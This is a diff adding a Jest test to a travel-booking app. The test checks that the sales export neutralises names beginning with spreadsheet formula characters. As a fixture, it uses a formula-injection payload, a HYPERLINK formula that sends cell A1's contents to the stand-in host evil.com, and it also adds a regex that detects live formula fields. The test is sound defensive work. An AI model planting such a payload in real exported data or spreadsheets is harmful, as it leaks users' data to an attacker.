@@ -2,9 +2,11 @@
 // agent sold shows in their sales, scoped by role; the files are read back (exceljs, pdfjs-dist) and checked.
 import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
 import { DEMO_PASSWORD } from "@skyward/command-service/world/demo-world";
+import { demoId } from "@skyward/command-service/world/seed";
 import { AnalyticsResponse, SALES_EXPORT_ROW_LIMIT, SalesListResponse } from "@skyward/contracts/sales";
 import { rebuildProjection } from "@skyward/infra/projections/runtime";
 import { sales } from "@skyward/projectors/sales/sales";
+import ExcelJS from "exceljs";
 import { contacts, passenger, search } from "./testing/bookings.ts";
 import type { HttpClient, Json } from "./testing/http-client.ts";
 import { download, pdfText, readWorkbook, sessionCookie } from "./testing/sales.ts";
@@ -480,4 +482,84 @@ describe("sales, export, ticket receipt and analytics over HTTP", () => {
     expect(totals.getCell(1).value).toBe("Suma");
     expect(totals.getCell(20).value).toBe((126 * count) / 100);
   }, 180_000);
+
+  it("when names start like a formula (=, +, -, @), then the xlsx holds them as text behind an apostrophe, and the sheet saved as CSV holds no formula", async () => {
+    // Last in this file: it renames the Kyiv agent and the Dnipro partner.
+    const first = '=HYPERLINK("http://evil.test/?x="&A1,"Olena")';
+    const renamedAgent = await kyiv.client.put("/account/details", {
+      account: { first_name: first, last_name: "@SUM(1+1)" },
+    });
+    expect(renamedAgent.status).toBe(200);
+    const renamedPartner = await admin.client.patch(`/agencies/${demoId("agency", "dnipro")}`, {
+      agency: { name: "+Dnipro Travel" },
+    });
+    expect(renamedPartner.status).toBe(200);
+    const latest = [renamedAgent.body.position, renamedPartner.body.position].sort().at(-1) as string;
+    expect(
+      (await kyiv.client.get("/account/details", { headers: { "x-min-position": latest } })).status,
+    ).toBe(200);
+
+    const res = await download(
+      t.app.url,
+      kyiv.cookie,
+      `/sales/export?${qs({ "ticket[date_from]": today, "ticket[date_to]": today, lang: "en" })}`,
+    );
+    expect(res.status).toBe(200);
+    const workbook = await readWorkbook(res.bytes);
+    const sheet = workbook.getWorksheet("Sales");
+    if (!sheet) throw new Error("no Sales sheet");
+    const header = (sheet.getRow(1).values as unknown[]).slice(1);
+    const lines: { agent: ExcelJS.Cell; agency: ExcelJS.Cell }[] = [];
+    sheet.eachRow((row, n) => {
+      if (n > 1 && row.getCell(header.indexOf("Agent") + 1).value !== null)
+        lines.push({
+          agent: row.getCell(header.indexOf("Agent") + 1),
+          agency: row.getCell(header.indexOf("Agency") + 1),
+        });
+    });
+    expect(lines.length).toBeGreaterThan(0);
+    for (const { agent, agency } of lines) {
+      // Text cells, not formulas: what the agent reads is the name, behind the apostrophe that keeps it text.
+      expect([agent.type, agency.type]).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
+      expect(agent.value).toBe(`'${first} @SUM(1+1)`);
+      expect(agency.value).toBe("'+Dnipro Travel");
+    }
+
+    // Saved as CSV (as a user's "Save as CSV" writes each cell's text), no field starts a formula; numbers aside.
+    const csv = (await workbook.csv.writeBuffer({ sheetName: "Sales" })).toString();
+    const fields = parseCsv(csv).flat();
+    expect(fields).toContain(`'${first} @SUM(1+1)`);
+    const live = fields.filter((f) => /^[=+\-@\t\r]/.test(f) && !/^[-+]?\d+(\.\d+)?$/.test(f));
+    expect(live).toEqual([]);
+  });
 });
+
+/** The fields of a CSV text (RFC 4180: quoted fields may hold commas, quotes doubled, line breaks). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i] as string;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"' && field === "") quoted = true;
+    else if (c === ",") {
+      row.push(field);
+      field = "";
+    } else if (c === "\n" || c === "\r") {
+      if (c === "\r" && text[i + 1] === "\n") i++;
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = "";
+    } else field += c;
+  }
+  if (field !== "" || row.length > 0) rows.push([...row, field]);
+  return rows;
+}
